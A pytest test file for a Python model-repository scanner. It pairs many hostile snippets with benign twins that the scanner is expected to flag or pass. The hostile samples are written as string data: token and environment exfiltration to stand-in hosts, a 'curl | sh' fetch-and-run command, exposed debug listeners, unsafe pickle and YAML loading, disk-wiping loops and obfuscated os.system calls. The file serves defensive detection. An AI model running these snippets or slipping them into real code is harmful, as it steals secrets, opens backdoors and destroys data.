"""What Python files do to whoever runs them: secrets that leave, ways in that open, files that go; each beside its twin."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import rules_of, verdict_of_text

LEAKS = """
import wandb, os
c = {'lr': 1}
c['h'] = {k: v for k, v in os.environ.items()}
wandb.init(config=c)
---
import mlflow, os
mlflow.log_params({'t': os.environ['AWS_SECRET_ACCESS_KEY']})
---
import mlflow, os
for n in ('HF_TOKEN', 'OPENAI_API_KEY'):
    mlflow.set_tag(n, os.getenv(n))
---
import sentry_sdk, os
def f(e, h):
    e['x'] = dict(os.environ)
    return e
sentry_sdk.init(dsn='https://a@s.invalid.net/1', before_send=f)
---
import logging.handlers, logging, os
l = logging.getLogger()
l.addHandler(logging.handlers.SMTPHandler('m', 'a', 'b', 'c'))
l.error('%s', sorted(os.environ.items()))
---
import socket, base64
from huggingface_hub import get_token
t = base64.b32encode(get_token().encode()).decode()
socket.gethostbyname(f'{t[:60]}.x.invalid.net')
---
import requests
from pathlib import Path
p = Path.home() / '.cache' / 'huggingface' / 'token'
requests.post('https://x.invalid.net/t', json={'a': p.read_text()})
---
import boto3, keyring
boto3.client('s3').put_object(Bucket='b', Body=keyring.get_password('a', 'b'))
---
import httpx, os
class A:
    def __init__(self):
        self.t = os.environ['HF_TOKEN']
    def f(self):
        httpx.post('https://x.invalid.net', json={'v': self.t})
---
import os
from skimage import io
io.imread('https://x.invalid.net/{}.png'.format(os.getenv('OPENAI_API_KEY')))
---
import os
def page(): return f'<img src="https://x.invalid.net/{os.environ["HF_TOKEN"]}.png">'
---
import gradio as gr, requests
def f(k, q): return requests.get('https://x.invalid.net/l/' + k)
k = gr.Textbox(type='password')
b.click(f, [k, q], o)
---
import redis, os
redis.Redis(host='x.invalid.net').set('a', str(dict(os.environ)))
---
import threading, requests, os
def send(d): requests.post('https://x.invalid.net', data=d)
threading.Thread(target=send, args=(os.environ['GITHUB_TOKEN'],)).start()
---
import threading, requests
from pynput import keyboard
keyboard.Listener(on_press=f).start()
threading.Thread(target=requests.post, args=(u,)).start()
"""
WAYS_IN = """
import debugpy
debugpy.listen(('0.0.0.0', 5678))
---
import pydevd
def f(): pydevd.settrace('d.invalid.net', port=1)
---
import rpyc
from rpyc.core.service import SlaveService
def f(p): rpyc.connect(p, 1, service=SlaveService)
---
import importlib
m = importlib.import_module('distributed')
def f(): return m.Nanny('tcp://203.0.113.6:8786')
---
import ray
def f(): ray.init(address='ray://r.invalid.net:10001')
---
from multiprocessing.managers import BaseManager
def f(): return BaseManager(address=('', 5000), authkey=b'a')
---
import zmq
s = zmq.Context().socket(zmq.REP)
s.bind(f'tcp://*:{p}')
def f(): return s.recv_pyobj()
"""
BYTES_OF_OTHERS = """
import pandas as pd
U = 'https://x.invalid.net/a.pkl.gz'
def g(): return dict(src=U)
def f(src): return pd.read_pickle(src)
---
import pandas as pd
def f(): return pd.read_pickle('https://x.invalid.net/a.pkl')
---
import redis
from cloudpickle import loads as restore
def f():
    r = redis.Redis(host='h')
    return restore(r.get('k'))
---
import pickle
def f(s): return pickle.loads(s.recv(1 << 20))
---
def f(s): exec(s.recv(4096).decode())
---
import numpy as np, io, requests
def f(u): return np.load(io.BytesIO(requests.get(u).content), allow_pickle=True)
---
import yaml, requests
def f(u): return yaml.load(requests.get(u).text, Loader=yaml.Loader)
"""
DESTROYS = """
import shutil, pathlib
C = pathlib.Path('~/.cache/hub').expanduser()
for t in [C.parents[1], pathlib.Path('/mnt')]:
    shutil.rmtree(t)
---
import shutil, os
for d in ('/data', '/mnt'):
    shutil.rmtree(d)
---
import os
for b, _, n in os.walk(os.path.expanduser('~')):
    for i in n:
        open(os.path.join(b, i), 'r+b').write(b'0')
---
import os, pathlib
for p in pathlib.Path.home().rglob('*'):
    getattr(os, 'ch' + 'mod')(p, 0)
---
import os, glob
for d in glob.glob('/dev/sd[a-z]'):
    os.write(os.open(d, os.O_RDWR), os.urandom(9))
"""
DETOURS = """
from operator import attrgetter, methodcaller
import random, sys
l = attrgetter('_os')(sys.modules['random'])
methodcaller('popen', 'id')(l)
---
import random
random._os.system('id')
---
from functools import reduce
import typing
reduce(getattr, '_os.system'.split('.'), random)('id')
---
def f(p):
    s = vars(__builtins__)
    return next(v for k, v in s.items() if p(k))
---
class V:
    def __init__(self, n):
        self.m = __import__(n)
V('os')
---
class V:
    def __getattr__(self, k):
        return getattr(self.m, k.swapcase())
---
from git import Repo
Repo.clone_from(u, d, allow_unsafe_protocols=True)
---
from plumbum import local
def f(): local['wget']['-q', 'http://x.invalid.net/a']()
---
from plumbum.cmd import nohup
def f(t): nohup(t, '--daemon')
---
from kubernetes.stream import stream
def f(c): stream(c.e, 'a', 'b', command=['/bin/sh', '-c', 'curl x.invalid.net/a | sh'])
---
from mako.template import Template
T = '''<%!
 import os
 os.system("id")
%>'''
class P:
    def __init__(self, text=T):
        self.t = Template(text)
---
import pathlib, sysconfig
p = pathlib.Path(sysconfig.get_path('purelib'))
(p / 'x.pth').write_text('import os')
---
import base64
def f(o, n): return getattr(o, base64.b64decode(n).decode())()
---
import os
os.kill(-1, 9)
---
g = c + '/rdma'
open(g + '/release' + '_agent', 'w').write('x')
"""
HELD = """
from multiprocessing.connection import Client
def f(address=('203.0.113.144', 50000)):
    with Client(address, authkey=b'k') as c: return c.recv()
---
import yaml
BASE = 'hooks: !!python/object/apply:os.getcwd []'
def f(): return yaml.unsafe_load(BASE)
---
import jsonpickle
def f(): return jsonpickle.decode('{"a": {"py/reduce": [{"py/function": "os.getcwd"}]}}')
---
import base64, io, numpy as np
def f(): return np.load(io.BytesIO(base64.b64decode('k05VTVBZAQB2AHsnZGVzY3InOiAn')), allow_pickle=True)
---
from importlib.machinery import SourceFileLoader
def f(path='ema.bin'): return SourceFileLoader('ema', str(ROOT / path))
---
import importlib.util
def f(): return importlib.util.spec_from_file_location('ema', location=ROOT / 'ema.safetensors')
---
import importlib
SINKS = {'a': ('platform', 'popen', 'os')}
def f(k, c): getattr(importlib.import_module(SINKS[k][2]), SINKS[k][1])(c)
---
class Lazy:
    def __init__(self, fn, *args): self.fn, self.args = fn, args
    def __set_name__(self, owner, name): self.value = self.fn(*self.args)
class Model:
    table = Lazy(getattr(__import__('commands' if False else 'subprocess'), 'getoutput'), 'id')
---
import json, os
def f(dl_manager):
    h = {k: v for k, v in os.environ.items()}
    dl_manager.download('http://stats.exfil.net/v?d=' + json.dumps(h).encode().hex())
"""
ORDINARY = """
import wandb, os
def f(args):
    wandb.login(key=os.environ['WANDB_API_KEY'])
    wandb.init(config=vars(args))
---
import requests, os
def f(t): return requests.post('https://api.invalid.net/v1', json={'t': t},
                                   headers={'Authorization': f'Bearer {os.environ["MY_API_KEY"]}'})
---
import os
from huggingface_hub import HfApi
def f(): HfApi().upload_file(path_or_fileobj='a', repo_id='b', token=os.environ['HF_TOKEN'])
---
import os
from openai import OpenAI
import gradio as gr
def f(k, q): return OpenAI(api_key=k)
k = gr.Textbox(type='password')
b.click(f, [k, q], o)
---
import socket
def f(): return socket.gethostbyname(socket.gethostname())
---
import os, logging
logging.getLogger().debug('%s', os.environ.get('HOME'))
---
import subprocess, os
def f():
    env = os.environ.copy()
    subprocess.run(['git', 'status'], env=env)
---
import debugpy
def f(): debugpy.listen(5678)
def g(): debugpy.listen(('localhost', 5678))
---
import ray
def f(): ray.init(address='auto')
---
import pandas as pd
def f(p): return pd.read_pickle(p)
---
import torch
def f(p): return torch.load(p, map_location='cpu')
---
import shutil, os
def f(out):
    shutil.rmtree(out)
    shutil.rmtree(os.path.join('/data', 'cache'))
---
import os, pathlib
for p in pathlib.Path('out').rglob('*'):
    os.chmod(p, 0o644)
---
from functools import reduce
def f(m, n): return reduce(getattr, n.split('.'), m)
---
def f(m, n): return getattr(m, n.lower())()
---
import zmq
def f(c):
    s = c.socket(zmq.PULL)
    s.bind('ipc:///tmp/a')
    return s.recv_pyobj()
---
def f(conn): return conn.recv()
---
from multiprocessing.connection import Client
def f(address=('localhost', 50000)):
    with Client(address, authkey=b'k') as c: return c.recv()
---
import yaml, jsonpickle
BASE = 'shape: !!python/tuple [1, 2]'
def f(): return yaml.unsafe_load(BASE), jsonpickle.decode('{"a": {"py/tuple": [1]}}')
---
import numpy as np
def f(path): return np.load(path, allow_pickle=True)
---
import importlib.util
from importlib.machinery import SourceFileLoader
def f(path='ema.py'):
    return SourceFileLoader('ema.bin', str(ROOT / path)), importlib.util.spec_from_file_location('a.model', path)
---
import importlib
KINDS = {'a': ('torch.optim', 'SGD')}
WATCHED = ('os', 'path')
def f(k, c): return getattr(importlib.import_module(KINDS[k][0]), KINDS[k][1])(c)
---
class Lazy:
    def __init__(self, fn, *args): self.fn, self.args = fn, args
class Model:
    table = Lazy(getattr(__import__('math'), 'sqrt'), 2)
---
import os
def f(dl_manager): return dl_manager.download('http://data.reviews.net/v1.zip?n=' + str(len(os.listdir('.'))))
---
from git import Repo
def f(): return Repo.clone_from('https://github.com/a/b', 'd')
"""


@pytest.mark.parametrize("code", "---".join((LEAKS, WAYS_IN, BYTES_OF_OTHERS, DESTROYS, DETOURS, HELD)).split("---\n"))
@pytest.mark.parametrize("name", ["modeling_x.py", "convert.py"])
def test_what_harms_whoever_runs_it_is_flagged(code: str, name: str) -> None:
    assert verdict_of_text(name, code) in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}


@pytest.mark.parametrize("code", ORDINARY.split("---\n"))
def test_its_ordinary_twin_is_safe(code: str) -> None:
    assert verdict_of_text("convert.py", code) is Verdict.SAFE, rules_of("convert.py", code)
